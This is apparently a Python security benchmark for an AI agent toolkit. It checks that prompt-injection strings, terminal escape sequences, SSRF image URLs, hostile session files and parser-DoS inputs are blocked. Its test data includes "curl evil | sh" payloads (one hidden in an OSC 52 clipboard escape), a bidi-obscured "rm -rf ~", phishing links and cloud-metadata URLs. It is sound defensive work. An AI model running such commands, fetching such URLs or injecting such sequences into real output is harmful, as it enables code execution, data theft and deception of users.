"""The prompt, terminal and session attack report: attempts tried and blocked, by the path they took.

A sibling of ``sandbox_security.py`` for the attacks that never touch the sandbox:

- **prompt injection**: every string of ``agentkit.testing.injections`` put in every untrusted slot of a
  conversation, sent down every path to an engine — agentkit's text prompt, token ids (a Hugging Face fast
  tokenizer with the control tokens special, one with them added as plain tokens, one whose merges spell
  them, and eight threads sharing one tokenizer), the Ollama ``/api/chat`` body and the vLLM chat body.
  Blocked means the engine would see exactly the control tokens of a benign conversation of the same
  shape. With ``AGENTKIT_VLLM_BASE_URL`` set, the vLLM chat body also goes to that real server and the
  prompt ids *it* tokenized are checked;
- **tool media**: the same strings as a tool's text beside a real image, and a tool's data made to look like
  media parts; blocked means the native prompt's media placeholders, the vLLM body's media parts and Ollama's
  images are exactly the real image (or none), and the control ids those of a benign result;
- **terminal escapes**: escape sequences (OSC 52 clipboard, title, cursor moves, C1 CSI, carriage return,
  bidi overrides, a lone surrogate) in every place the CLI prints outside text, and in the full-screen
  assistant's notice for a deleted session's title (with Textual markup too); blocked means no control
  character reached the output (and the app did not end);
- **approval**: a ``run_python`` call whose dangerous line sits past the first 300 characters; blocked
  means the question showed it; calls whose lines wrap (or tabs widen) past a 24-row terminal; blocked means
  they opened in the pager, so their start did not scroll away;
- **sessions**: hostile files in the sessions folder and hostile ids/names; blocked means a clear agentkit
  error or a skipped file, never a hang, a traceback or a raw ``OSError``;
- **files**: what agentkit reads back from files: a saved session whose picture's path is a FIFO, a device or
  a text file (a private key, a ``.env``); a session file written by hand naming a binary secret (a DER key, a
  keyring, a database) or any picture of the user's, with no fingerprint or a made-up one; such files named as
  a picture; task and results lines nested 100,000 deep; blocked means a clear agentkit error within 10 s;
- **batch**: every injection string as a task file's task and id; blocked means the prompt's control tokens
  are a benign task's, the results file gives back exactly the ids and tasks, and nothing printed is unsafe;
- **media URLs**: an http(s) (or file, ftp, scheme-relative, ...) URL as an image from a user message, a saved
  session and a tool result; blocked means neither the vLLM nor the Ollama request carries it (a clear error,
  or bytes), so no server fetches an address someone else chose. Terminal attempts also include markdown links
  in ``sessions show`` (no OSC 8 hyperlink hiding its URL);
- **schema**: every injection string as an output schema's title, description, property name, enum value and
  pattern (what ``--schema FILE`` declares as ``final_result``); blocked means the prompt's control tokens are
  those of a benign schema.
- **parser**: a 200,000-character run of blanks, ``<`` or ``{`` inside each call format the parser recovers
  (BEGIN_ARG blocks, [TOOL_REQUEST], tool_code, thought headers, Gemma 3 markers, reserved tokens); blocked means
  the text is parsed whole and streamed within 10 s.

Run: ``python tools/bench/prompt_security.py`` (needs the ``[transformers]`` extra; about a minute).
"""

from __future__ import annotations

import asyncio
import contextlib
import dataclasses
import io
import json
import os
import subprocess
import sys
import tempfile
import threading
from collections import Counter
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parents[2]
sys.path.insert(0, str(ROOT))

from agentkit.gemma4 import CONTROL_TOKENS, render  # noqa: E402
from agentkit.testing.injections import BENIGN, INJECTIONS, control_tokens_in, conversation, strings_in  # noqa: E402

Attempt = tuple[str, str, Callable[[], bool]]  # (category, name, attack: True when blocked)


# -- prompt injection ------------------------------------------------------------------------------------


def _tokenizer(*, special: bool = True, corpus: list[str] | None = None) -> Any:
    from tokenizers import AddedToken, Tokenizer, decoders, models, pre_tokenizers, trainers
    from transformers import PreTrainedTokenizerFast

    tok = Tokenizer(models.BPE())
    tok.pre_tokenizer = pre_tokenizers.ByteLevel(add_prefix_space=False)
    tok.decoder = decoders.ByteLevel()
    trainer = trainers.BpeTrainer(
        vocab_size=400, initial_alphabet=pre_tokenizers.ByteLevel.alphabet(), show_progress=False
    )
    tok.train_from_iterator(corpus or ["The weather in Paris is 18 degrees.", "plain words"] * 3, trainer)
    added = [AddedToken(t, special=special, normalized=False) for t in CONTROL_TOKENS]
    tok.add_special_tokens(added) if special else tok.add_tokens(added)
    return PreTrainedTokenizerFast(tokenizer_object=tok)


def _id_controls(tokenizer: Any, ids: list[int]) -> list[int]:
    special = set(tokenizer.convert_tokens_to_ids(list(CONTROL_TOKENS)))
    return [i for i in ids if i in special]


def _chat_request(text: str, image: bytes | None = None) -> Any:
    """The conversation with ``text`` in every slot as a request; ``image`` fills its image part when given."""
    from agentkit.backends.base import GenerationRequest

    messages, tools = conversation(text)
    if image is not None:
        messages = [
            {**m, "content": [p if p["type"] != "image" else {"type": "image", "image": image} for p in m["content"]]}
            if isinstance(m.get("content"), list)
            else m
            for m in messages
        ]
    return GenerationRequest(prompt=render(messages, tools), messages=messages, tools=tools, enable_thinking=True)


def _sent_strings(body: dict[str, Any]) -> list[str]:
    """The strings of a chat body an engine renders into the prompt (options.stop holds real markers, on purpose)."""
    return strings_in([body["messages"], body.get("tools", [])])


def _ollama_body(text: str) -> dict[str, Any]:
    from agentkit.backends.ollama import chat_body

    request = _chat_request(text, image=b"\x89PNG")  # Ollama wants media bytes
    return chat_body("gemma4", request)


def _vllm_body(text: str) -> dict[str, Any]:
    from agentkit.backends.vllm import VLLMBackend

    request = _chat_request(text)
    # The conversation's image part carries no data of its own: it is given the request's media, as an agent's
    # request would be (an image part with nothing to send is refused before any request is made).
    media = [{"type": "image_url", "image_url": {"url": "data:image/png;base64,iVBORw0KGgo="}}]
    request = dataclasses.replace(request, media=media)
    return VLLMBackend("gemma4", tokenizer=False, mode="chat")._chat_body(request)


def _vllm_server_controls(base_url: str, text: str, special: set[int]) -> list[int]:
    """The control ids the real vLLM server tokenized for the chat body agentkit sends."""
    import httpx

    model = httpx.get(f"{base_url}/v1/models", timeout=30).json()["data"][0]["id"]
    body = _vllm_body(text)
    for message in body["messages"]:  # the tiny test model has no vision tower
        if isinstance(message.get("content"), list):
            message["content"] = [p for p in message["content"] if p.get("type") == "text"]
        elif isinstance(message.get("content"), dict):  # older agentkit sent these as they were: vLLM refuses
            message["content"] = json.dumps(message["content"], ensure_ascii=False)
        for call in message.get("tool_calls") or ():
            call["type"] = "function"
            if not isinstance(call["function"]["arguments"], str):
                call["function"]["arguments"] = json.dumps(call["function"]["arguments"], ensure_ascii=False)
    body.update(model=model, stream=False, max_tokens=1, return_token_ids=True, temperature=0)
    body.pop("stream_options", None)
    reply = httpx.post(f"{base_url}/v1/chat/completions", json=body, timeout=120)
    reply.raise_for_status()
    return [i for i in reply.json()["prompt_token_ids"] if i in special]


def injection_attempts() -> list[Attempt]:
    plain, loose, merged = _tokenizer(), _tokenizer(special=False), _tokenizer(corpus=[*INJECTIONS] * 3)
    benign_prompt = render(*conversation(BENIGN))
    want_text = control_tokens_in(benign_prompt.text)
    want_ids = {id(t): _id_controls(t, benign_prompt.token_ids(t)) for t in (plain, loose, merged)}
    attempts: list[Attempt] = []
    for evil in INJECTIONS:
        label = repr(evil)[:40]
        prompt = render(*conversation(evil))
        attempts.append(("injection", f"text prompt {label}", lambda p=prompt: control_tokens_in(p.text) == want_text))
        for kind, tok in (("special", plain), ("plain-added", loose), ("merged", merged)):
            attempts.append(
                (
                    "injection",
                    f"token ids ({kind} tokens) {label}",
                    lambda p=prompt, t=tok: _id_controls(t, p.token_ids(t)) == want_ids[id(t)],
                )
            )
        attempts.append(
            (
                "injection",
                f"ollama /api/chat {label}",
                lambda e=evil: not any(map(control_tokens_in, _sent_strings(_ollama_body(e)))),
            )
        )
        attempts.append(
            (
                "injection",
                f"vllm chat body {label}",
                lambda e=evil: not any(map(control_tokens_in, _sent_strings(_vllm_body(e)))),
            )
        )

    def threads() -> bool:
        prompts = [render(*conversation(e)) for e in INJECTIONS[:8]]
        expected = [_id_controls(plain, p.token_ids(plain)) for p in prompts]
        barrier = threading.Barrier(8)

        def worker(n: int) -> bool:
            barrier.wait()
            ok = True
            for i in range(40):
                if n % 4 == 0:  # the rest of the program uses the tokenizer the ordinary way meanwhile
                    plain.encode("plain <|turn> words", add_special_tokens=False, split_special_tokens=True)
                    continue
                k = (n + i) % len(prompts)
                ok &= _id_controls(plain, prompts[k].token_ids(plain)) == expected[k]
            return ok

        with ThreadPoolExecutor(8) as pool:
            return all(pool.map(worker, range(8)))

    attempts.append(("injection", "token ids from 8 threads sharing one tokenizer", threads))

    base_url = os.environ.get("AGENTKIT_VLLM_BASE_URL")
    if base_url:
        import httpx
        from transformers import AutoTokenizer

        model_dir = httpx.get(f"{base_url}/v1/models", timeout=30).json()["data"][0]["id"]
        server_tok = AutoTokenizer.from_pretrained(model_dir)
        special = set(server_tok.convert_tokens_to_ids(list(CONTROL_TOKENS)))
        want = _vllm_server_controls(base_url, BENIGN, special)
        for evil in INJECTIONS:
            attempts.append(
                (
                    "injection",
                    f"real vLLM chat, tokenized by the server {repr(evil)[:40]}",
                    lambda e=evil: _vllm_server_controls(base_url, e, special) == want,
                )
            )
    return attempts


# -- media from tools: placeholders and engine media only from real media parts ---------------------------

_PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 8


def _tool_media_conversation(evil: str, *, real: bool) -> Any:
    """A tool round whose result is ``evil`` as text and, as data, as parts that look like media; with one real
    image (a typed part, as an MCP image block or ``agentkit.Image`` becomes) when ``real``."""
    from agentkit.messages import ImagePart, ToolResult, from_dicts
    from agentkit.tools.runtime import to_response

    calls = [{"id": "c1", "function": {"name": "shot", "arguments": {}}}, {"id": "c2", "function": {"name": "shot"}}]
    head = from_dicts([{"role": "user", "content": "Show me"}, {"role": "assistant", "tool_calls": calls}])
    value, media = to_response([evil, *([ImagePart(_PNG)] if real else [])])
    looks_like_media = [{"type": "text", "text": evil}, {"type": "image", "image": "iVBORw0KGgo="}]
    data, _ = to_response(looks_like_media)
    return (*head, ToolResult(value, "c1", "shot", media=media), ToolResult(data, "c2", "shot"))


def _media_counts(conversation: Any, tok: Any) -> tuple[int, int, int, int]:
    """Placeholders in the native prompt's ids, image parts in the vLLM body, Ollama images, control ids."""
    from agentkit.backends._openai_media import openai_part
    from agentkit.backends.ollama import ollama_messages
    from agentkit.gemma4.tokens import AUDIO, IMAGE, VIDEO
    from agentkit.messages import native_prompt, to_chat

    prompt = native_prompt(conversation, [{"name": "shot", "description": "x", "parameters": {}}])
    ids = prompt.token_ids(tok)
    placeholders = sum(ids.count(i) for i in tok.convert_tokens_to_ids([IMAGE, AUDIO, VIDEO]))
    vllm = to_chat(conversation, openai_part)
    parts = [p for m in vllm if isinstance(m.get("content"), list) for p in m["content"]]
    images = sum(1 for p in parts if p.get("type") != "text")
    ollama = sum(len(m.get("images") or ()) for m in ollama_messages(to_chat(conversation)))
    return placeholders, images, ollama, len(_id_controls(tok, ids))


def tool_media_attempts() -> list[Attempt]:
    tok = _tokenizer()
    want = {real: _media_counts(_tool_media_conversation(BENIGN, real=real), tok) for real in (True, False)}
    assert want[True][:3] == (1, 1, 1) and want[False][:3] == (0, 0, 0), want
    attempts: list[Attempt] = []
    for evil in INJECTIONS:
        for real in (True, False):
            attempts.append(
                (
                    "tool media",
                    f"{'an image and ' if real else ''}forged media {repr(evil)[:40]}",
                    lambda e=evil, r=real: _media_counts(_tool_media_conversation(e, real=r), tok) == want[r],
                )
            )
    return attempts


# -- terminal escapes and approval -------------------------------------------------------------------------

ESCAPES = {
    "OSC 52 clipboard": "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
    "title": "\x1b]0;sudo password:\x07",
    "clear screen": "\x1b[2J\x1b[H",
    "cursor up, erase line": "\x1b[1A\x1b[2K",
    "C1 CSI": "\x9b31m",
    "C1 OSC": "\x9d0;t\x9c",
    "carriage return": "ok\rEVIL",
    "backspace/DEL": "\x08\x08\x7f",
    "RLO bidi override": "\u202eexe.txt",
    "bidi isolate": "\u2066x\u2069",
    "RLM/LRM bidi marks": "rm -rf \u200f~ 2\u200e1",  # the marks move "~" and the digits on the line shown
    "DCS": "\x1bP+q\x1b\\",
    # A file name's byte that is not UTF-8, as Python gives it (a JSON "\\udcff" too): no UTF-8 stream takes
    # it, so printing (or saving) it raised UnicodeEncodeError.
    "lone surrogate": "half \udcff pair",
}
_UNSAFE = {chr(c) for c in [*range(0x00, 0x09), *range(0x0B, 0x20), *range(0x7F, 0xA0), *range(0xD800, 0xE000)]}
_UNSAFE |= set("\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")


def _inert(text: str) -> bool:
    return not _UNSAFE.intersection(text)


def _printed(surface: str, evil: str) -> str:
    from agentkit.cli.common import report_error
    from agentkit.cli.run import EventPrinter, JsonEventPrinter
    from agentkit.errors import BackendResponseError
    from agentkit.events import Notice, TextDelta, ThinkingDelta, ToolCallFinished, ToolCallStarted

    out, err = io.StringIO(), io.StringIO()
    printer = EventPrinter(out, err)
    if surface == "answer":
        printer.handle(TextDelta(evil, 1))
    elif surface == "thinking":
        printer.handle(ThinkingDelta(evil, 1))
    elif surface == "tool call line":
        printer.handle(ToolCallStarted("c", f"t{evil}", {"path": evil}, 1))
    elif surface == "tool result preview":
        printer.handle(ToolCallFinished("c", "t", {}, {"page": evil}, None, 0.1, 1))
    elif surface == "tool error":
        printer.handle(ToolCallFinished("c", "t", {}, None, evil, 0.1, 1))
    elif surface == "notice":
        printer.handle(Notice(evil))
    elif surface == "error line":
        report_error(BackendResponseError(evil, backend="vllm"), err)
    elif surface == "--json events":
        JsonEventPrinter(out).handle(TextDelta(evil, 1))
        return out.getvalue() if json.loads(out.getvalue())["text"] == evil else "\x1b(lossy)"
    printer.close()
    return out.getvalue() + err.getvalue()


def _sessions_cli(evil: str) -> str:
    from agentkit import Session, SessionStore
    from agentkit.cli import main

    with tempfile.TemporaryDirectory() as home:
        os.environ["AGENTKIT_HOME"] = home
        store = SessionStore()
        store.save(Session(id="s1", title=evil, messages=[{"role": "user", "content": evil}]))
        (store.root / f"bad{evil}.json").write_text("{", encoding="utf-8")
        out, err = io.StringIO(), io.StringIO()
        with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
            main(["sessions", "list"])
            main(["sessions", "show", "s1"])
        return out.getvalue() + err.getvalue()


def _tui_notice_inert(evil: str) -> bool:
    """Delete a session titled ``evil`` in the full-screen assistant: its notice must show the title as text (a
    title such as ``[/b]`` ended the app with a MarkupError; escapes in it reached the terminal)."""
    from agentkit import Session, SessionStore
    from agentkit.testing import ScriptedBackend
    from agentkit.tui import AgentkitApp
    from agentkit.tui.widgets import ConfirmScreen

    async def attack(root: str) -> bool:
        store = SessionStore(root)
        store.save(Session(id="keep", title="keep"))
        store.save(Session(id="evil", title=evil))
        app = AgentkitApp(ScriptedBackend([]), store=store, session_id="keep")
        async with app.run_test(size=(100, 40), notifications=True) as pilot:
            app.action_delete_session("evil")
            for _ in range(500):
                if isinstance(app.screen, ConfirmScreen):
                    break
                await pilot.pause(0.01)
            await pilot.press("y")
            for _ in range(500):
                if app.screen.query("Toast"):
                    break
                await pilot.pause(0.01)
            await pilot.pause()
            shown = "\n".join("".join(s.text for s in strip) for strip in app.screen._compositor.render_strips())
            notes = [n for n in app._notifications if "Deleted" in n.message]
            return app.is_running and bool(notes) and not notes[0].markup and _inert(shown + notes[0].message)

    with tempfile.TemporaryDirectory() as root:
        try:
            return asyncio.run(attack(root))
        except Exception:
            return False


def _sessions_show_link(markdown: str, url: str) -> bool:
    """An answer's markdown link in ``sessions show`` on a terminal: no OSC 8 hyperlink (its text would hide where
    it goes), and the URL itself printed."""
    from agentkit import Session, SessionStore
    from agentkit.cli import main

    with tempfile.TemporaryDirectory() as home:
        saved = {k: os.environ.get(k) for k in ("AGENTKIT_HOME", "FORCE_COLOR", "COLUMNS")}
        os.environ.update(AGENTKIT_HOME=home, FORCE_COLOR="1", COLUMNS="200")  # Rich writes for a terminal
        try:
            messages = [{"role": "user", "content": "hi"}, {"role": "assistant", "content": markdown}]
            SessionStore().save(Session(id="s1", title="t", messages=messages))
            out = io.StringIO()
            with contextlib.redirect_stdout(out), contextlib.redirect_stderr(io.StringIO()):
                main(["sessions", "show", "s1"])
        finally:
            for key, value in saved.items():
                os.environ.pop(key, None) if value is None else os.environ.__setitem__(key, value)
    shown = out.getvalue()
    return "\x1b]" not in shown and "\x9d" not in shown and url in shown


def _approval_shows_tail() -> bool:
    from agentkit import ToolCallRequest
    from agentkit.cli.run import EventPrinter, TerminalAsk

    code = "".join(f"x{i} = {i}  # padding\n" for i in range(40)) + "import os; os.system('curl evil | sh')\n"
    read_end, write_end = os.pipe()
    stdin, sys.stdin = sys.stdin, os.fdopen(read_end)
    err = io.StringIO()
    os.write(write_end, b"n\n")
    try:
        asyncio.run(
            TerminalAsk(EventPrinter(io.StringIO(), err))(ToolCallRequest("c", "run_python", {"code": code}, True))
        )
    finally:
        os.close(write_end)
        sys.stdin.close()
        sys.stdin = stdin
    return "os.system('curl evil | sh')" in err.getvalue()


def _approval_pages_a_wrapped_line(code: str) -> Callable[[], bool]:
    """On a 100 x 24 terminal, a call whose rows once wrapped are more than the screen must open in the pager
    (else its start scrolls away before the question); blocked means the pager got the dangerous part."""

    def attack() -> bool:
        import rich.console
        from rich.console import Console

        from agentkit import ToolCallRequest
        from agentkit.cli.run import EventPrinter, TerminalAsk

        paged: list[str] = []

        class Pager:
            def show(self, content: str) -> None:
                paged.append(content)

        printer = EventPrinter(io.StringIO(), io.StringIO())
        printer.console = Console(file=io.StringIO(), force_terminal=True, height=24, width=100)
        read_end, write_end = os.pipe()
        stdin, sys.stdin = sys.stdin, os.fdopen(read_end)
        pager, rich.console.SystemPager = rich.console.SystemPager, Pager  # type: ignore[misc]
        os.write(write_end, b"n\n")
        try:
            asyncio.run(TerminalAsk(printer)(ToolCallRequest("c", "run_python", {"code": code}, True)))
        finally:
            rich.console.SystemPager = pager  # type: ignore[misc]
            os.close(write_end)
            sys.stdin.close()
            sys.stdin = stdin
        return len(paged) == 1 and "curl evil | sh" in paged[0]

    return attack


def terminal_attempts() -> list[Attempt]:
    surfaces = ["answer", "thinking", "tool call line", "tool result preview", "tool error", "notice", "error line"]
    surfaces.append("--json events")
    attempts: list[Attempt] = [
        ("terminal", f"{name} in {surface}", lambda s=surface, e=evil: _inert(_printed(s, e)))
        for name, evil in ESCAPES.items()
        for surface in surfaces
    ]
    attempts += [
        ("terminal", f"{name} in sessions list/show", lambda e=evil: _inert(_sessions_cli(e)))
        for name, evil in ESCAPES.items()
    ]
    markup = {"closing tag": "[/b] closed", "click action": "[@click=app.quit]quit[/]", "link": "[link=x]y[/link]"}
    attempts += [
        ("terminal", f"{name} in a deleted session's title (TUI notice)", lambda e=evil: _tui_notice_inert(e))
        for name, evil in {**ESCAPES, **markup}.items()
    ]
    links = {
        "markdown link whose text hides its URL": "Log in at [your bank](https://evil.example/login).",
        "markdown link with a title": '[docs](https://evil.example/x "the docs")',
        "autolink": "<https://evil.example/auto>",
        "reference link": "[home][1]\n\n[1]: https://evil.example/ref",
    }
    attempts += [
        ("terminal", f"{name} in sessions show", lambda m=markdown: _sessions_show_link(m, "evil.example"))
        for name, markdown in links.items()
    ]
    attempts.append(("approval", "run_python code past 300 characters is shown", _approval_shows_tail))
    danger = "import os; os.system('curl evil | sh')"
    wrapped = {
        "dangerous start, then one line of 20,000 characters": danger + ";" + " #" * 10_000,
        "a few lines, each thousands of characters": "\n".join([danger, *["x = 1  #" + "-" * 3000] * 5]),
        "tabs that widen one line past the screen": danger + "\t" * 3000 + "pass",
    }
    attempts += [
        ("approval", f"pager for {name}", _approval_pages_a_wrapped_line(code)) for name, code in wrapped.items()
    ]
    return attempts


# -- parser ----------------------------------------------------------------------------------------------

# Model outputs an attacker shapes (a tool result or page the model repeats, a hostile server): a long blank or
# bracket run placed inside each call format the parser recovers. Each is parsed, whole and streamed, in a child
# process (a regex holds the GIL, so a thread cannot be timed out); blocked means both finish within 10 s.
_PARSE_FORMATS = {
    "in <|tool_call>": "<|tool_call>{}!<tool_call|>",
    "after call:": "<|tool_call>call:{}<tool_call|>",
    "before a borrowed closer": "<|tool_call>call:write_file{{path:1}}{}x</tool_call>",
    "BEGIN_ARG key line": "call:write_file:\nBEGIN_ARG: path{}x\nv\nEND_ARG\n",
    "END_ARG lookalike": "call:write_file:\nBEGIN_ARG:\nv\n{}END_ARGx\nEND_ARG\n",
    "BEGIN_ARG head gap": "call:write_file:{}x",
    "[TOOL_REQUEST] envelope": '[TOOL_REQUEST]{{"name":"write_file",{}"arguments":{{}}}}[END_TOOL_REQUEST]',
    "[TOOL_CALLS] head": "[TOOL_CALLS]write_file{}[ARGS]{{}}",
    "tool_code block": "hi\n```tool_code\nwrite_file(path='a'){}write_file(path='b')\n```",
    "bare thought header": "thought\n{}<channel|>x",
    "Gemma 3 turn markers": "x<end_of_turn>{}<start_of_turn>user",
    "reserved-token flood": "<unused1>{}<unused2>",
}
_PARSE_FILLERS = {"spaces": " ", "blank lines": "\n", "tabs and spaces": "\t ", "'<'": "<", "'{'": "{"}
_PARSE_CHILD = """
import sys, time
from agentkit.gemma4 import StreamParser, parse_response
tools = [{"name": "write_file", "parameters": {"type": "object", "properties": {"path": {"type": "string"}}}}]
text = sys.stdin.read()
parse_response(text, tools)
parser = StreamParser(tools)
for i in range(0, len(text), 64):
    parser.feed(text[i : i + 64])
parser.finish()
"""


def _parses_in_time(text: str) -> Callable[[], bool]:
    def attack() -> bool:
        env = {**os.environ, "PYTHONPATH": str(ROOT)}
        try:
            subprocess.run([sys.executable, "-c", _PARSE_CHILD], input=text, text=True, env=env, timeout=10, check=True)
        except subprocess.TimeoutExpired:
            return False
        return True

    return attack


def parser_attempts() -> list[Attempt]:
    """A 200,000-character run of each filler inside each format (the code before took minutes to hours on the
    blank runs: 2,000 spaces after ``<|tool_call>`` took 21 s, cubic)."""
    return [
        ("parser", f"{filler} {where}", _parses_in_time(shape.format(run * (200_000 // len(run)))))
        for where, shape in _PARSE_FORMATS.items()
        for filler, run in _PARSE_FILLERS.items()
    ]


# -- sessions --------------------------------------------------------------------------------------------


def _clear_error(action: Callable[[Any, Path], Any], prepare: Callable[[Path], None] | None = None) -> bool:
    """True when ``action`` ends within 20 s with an agentkit error or a skipped file (no hang, no raw error)."""
    from agentkit import SessionStore
    from agentkit.errors import AgentkitError

    outcome: list[bool] = []
    with tempfile.TemporaryDirectory() as root:
        path = Path(root)
        if prepare:
            prepare(path)

        def run() -> None:
            try:
                action(SessionStore(path), path)
                outcome.append(True)
            except AgentkitError:
                outcome.append(True)
            except BaseException:
                outcome.append(False)

        worker = threading.Thread(target=run, daemon=True)
        worker.start()
        worker.join(20)
        if worker.is_alive():  # blocked: unblock the FIFO so the thread can end, and count a hole
            with contextlib.suppress(OSError):
                os.close(os.open(path / "x.json", os.O_WRONLY | os.O_NONBLOCK))
            return False
    return outcome == [True]


def _listed_and_skipped(bad: Callable[[Path], None]) -> Callable[[], bool]:
    from agentkit import Session

    def prepare(root: Path) -> None:
        from agentkit import SessionStore

        SessionStore(root).save(Session(id="good"))
        bad(root)

    def action(store: Any, root: Path) -> None:
        if [i.id for i in store.list()] != ["good"]:
            raise RuntimeError("the good session was lost")
        if hasattr(store, "scan") and len(store.scan()[1]) != 1:
            raise RuntimeError("the bad file was not reported")

    return lambda: _clear_error(action, prepare)


def _id_refused(bad: str) -> bool:
    """Saving under ``bad`` must be a UserError, not a file with a newline (or worse) in its name."""
    from agentkit import Session, SessionStore
    from agentkit.errors import UserError

    with tempfile.TemporaryDirectory() as root:
        try:
            SessionStore(root).save(Session(id=bad))
        except UserError:
            return True
        except Exception:
            return False
        return False


def session_attempts() -> list[Attempt]:
    from agentkit import Session

    files: dict[str, Callable[[Path], None]] = {
        "100k nested [": lambda r: (r / "x.json").write_text("[" * 100_000),
        "FIFO named x.json": lambda r: os.mkfifo(r / "x.json"),
        "symlink to /dev/zero": lambda r: os.symlink("/dev/zero", r / "x.json"),
        "folder named x.json": lambda r: (r / "x.json").mkdir(),
        "not UTF-8": lambda r: (r / "x.json").write_bytes(b'{"format": "\xff"}'),
        "not a session": lambda r: (r / "x.json").write_text('{"a": 1}'),
    }
    attempts: list[Attempt] = [("sessions", f"list with {k}", _listed_and_skipped(v)) for k, v in files.items()]
    attempts.append(
        (
            "sessions",
            "save over a FIFO",
            lambda: _clear_error(lambda s, r: s.save(Session(id="x")), lambda r: os.mkfifo(r / "x.json")),
        )
    )
    for bad in ["abc\n", "abc\r", "a/b", "..", "a" * 129, "a\x00", "\nabc"]:
        attempts.append(("sessions", f"session id {bad[:8]!r} is refused", lambda b=bad: _id_refused(b)))

    def export(length: int) -> Callable[[], bool]:
        def action(store: Any, root: Path) -> None:
            store.save(Session(id="s"))
            store.export("s", root / ("e" * length))

        return lambda: _clear_error(action)

    for length in (228, 242, 250, 255, 256, 300):
        attempts.append(("sessions", f"export to a {length}-byte name", export(length)))
    return attempts


# -- structured output: a schema file's names, descriptions and enums are data in the declaration ---------


def _schema_prompt_tokens(evil: str) -> int:
    """Control tokens of the prompt an agent with ``evil`` all over its output schema sends (--schema FILE)."""
    from agentkit import Agent
    from agentkit.testing import ScriptedBackend

    schema = {
        "type": "object",
        "title": evil,
        "description": evil,
        "properties": {evil: {"type": "string", "description": evil, "enum": [evil, "b"]}, "n": {"pattern": evil}},
        "required": [evil],
    }
    backend = ScriptedBackend(['<|tool_call>call:final_result{n:<|"|>b<|"|>}<tool_call|>'] * 3)
    with contextlib.suppress(Exception):  # the scripted answer need not satisfy the schema: the prompt is judged
        Agent(backend, output_type=schema).run("hi")
    return control_tokens_in(backend.prompts[0])


def schema_attempts() -> list[Attempt]:
    want = _schema_prompt_tokens(BENIGN)
    return [
        (
            "schema",
            f"output schema names, descriptions, enums {repr(evil)[:40]}",
            lambda e=evil: _schema_prompt_tokens(e) == want,
        )
        for evil in INJECTIONS
    ]


# -- media URLs: the server never gets one to fetch (SSRF from its network) --------------------------------

_MEDIA_URLS = {
    "cloud metadata": "http://169.254.169.254/latest/meta-data/iam/",
    "internal https": "https://grafana.internal.example/render/a.png",
    "upper-case scheme": "HTTP://10.0.0.1/a.png",
    "leading space": " http://10.0.0.1/a.png",
    "scheme-relative": "//10.0.0.1/a.png",
    "file URL": "file:///etc/passwd",
    "ftp URL": "ftp://10.0.0.1/a.png",
    "data URL, not base64": "data:image/png,http://10.0.0.1/a.png",
    "video URL": "https://10.0.0.1/v.mp4",
}


def _no_url_reaches_a_server(url: str, source: str) -> bool:
    """``url`` as an image from ``source``: blocked when every engine's request carries only bytes (data URLs for
    vLLM) or the part is a clear UserError, never the URL."""
    from agentkit import Session, SessionStore
    from agentkit.backends._openai_media import openai_part
    from agentkit.backends.ollama import ollama_messages
    from agentkit.errors import UserError
    from agentkit.messages import ImagePart, ToolResult, UserMessage, VideoPart, from_dicts, to_chat
    from agentkit.tools.runtime import to_response

    part = (VideoPart if url.endswith(".mp4") else ImagePart)(url=url)
    try:
        if source == "user message":
            conversation: Any = from_dicts([{"role": "user", "content": [{"type": part.type, "url": url}]}])
        elif source == "saved session":
            with tempfile.TemporaryDirectory() as tmp:
                store = SessionStore(tmp)
                store.save(Session(id="s", conversation=[UserMessage((part,))]))
                conversation = store.load("s").conversation
        else:
            value, media = to_response(["shot", part])
            conversation = (ToolResult(value, "c1", "shot", media=media),)
    except UserError:
        return True
    host = url.split("//", 1)[-1].split("/", 1)[0].strip()
    for engine in (lambda: to_chat(conversation, openai_part), lambda: ollama_messages(to_chat(conversation))):
        try:
            sent = engine()
        except UserError:
            continue
        if host in json.dumps(sent, default=str):
            return False
    return True


def media_url_attempts() -> list[Attempt]:
    return [
        ("media URLs", f"{name} from a {source}", lambda u=url, s=source: _no_url_reaches_a_server(u, s))
        for name, url in _MEDIA_URLS.items()
        for source in ("user message", "saved session", "tool result")
    ]


# -- batch task files: the task and its id reach the prompt and the results file as data -----------------


def _batch_prompts(evil: str) -> tuple[list[int], list[tuple[str, str]], str]:
    """A task file whose lines carry ``evil`` (as JSON task and id, and as a plain line) run as a batch: the
    control tokens of each prompt, the (id, task) pairs the results file gives back, and what was printed."""
    from rich.console import Console

    from agentkit import Agent
    from agentkit.batch import read_tasks, run_batch
    from agentkit.testing import ScriptedBackend

    backend = ScriptedBackend(["ok<turn|>"] * 2)
    with tempfile.TemporaryDirectory() as tmp:
        tasks_file, results = Path(tmp, "tasks.jsonl"), Path(tmp, "results.jsonl")
        plain = " ".join(evil.split()) or "x"
        tasks_file.write_text(json.dumps({"id": evil, "task": evil}) + "\n" + plain + "\n", encoding="utf-8")
        printed = io.StringIO()
        asyncio.run(
            run_batch(
                read_tasks(tasks_file), results, lambda: Agent(backend), concurrency=1, console=Console(file=printed)
            )
        )
        rows = [json.loads(line) for line in results.read_text(encoding="utf-8").splitlines()]
    return [control_tokens_in(p) for p in backend.prompts], [(r["id"], r["task"]) for r in rows], printed.getvalue()


def batch_attempts() -> list[Attempt]:
    want_tokens, _, _ = _batch_prompts(BENIGN)

    def attack(evil: str) -> bool:
        tokens, rows, printed = _batch_prompts(evil)
        plain = " ".join(evil.split()) or "x"
        expected = sorted([(evil, evil), ("2", plain if not plain.startswith(("{", '"')) else rows[-1][1])])
        return tokens == want_tokens and sorted(rows) == expected and _inert(printed.replace("\n", ""))

    return [("batch", f"task file line and id {repr(evil)[:40]}", lambda e=evil: attack(e)) for evil in INJECTIONS]


# -- files agentkit reads back: media paths in session files, task and results files ---------------------


def _within(seconds: float, action: Callable[[], bool], unblock: Callable[[], None] = lambda: None) -> bool:
    """``action()`` in a thread: its verdict, or False when it is still running after ``seconds`` (a hang)."""
    outcome: list[bool] = []

    def run() -> None:
        try:
            outcome.append(action())
        except BaseException:
            outcome.append(False)

    worker = threading.Thread(target=run, daemon=True)
    worker.start()
    worker.join(seconds)
    if worker.is_alive():
        unblock()
        return False
    return outcome == [True]


def _session_media_refused(make: Callable[[Path], Path]) -> Callable[[], bool]:
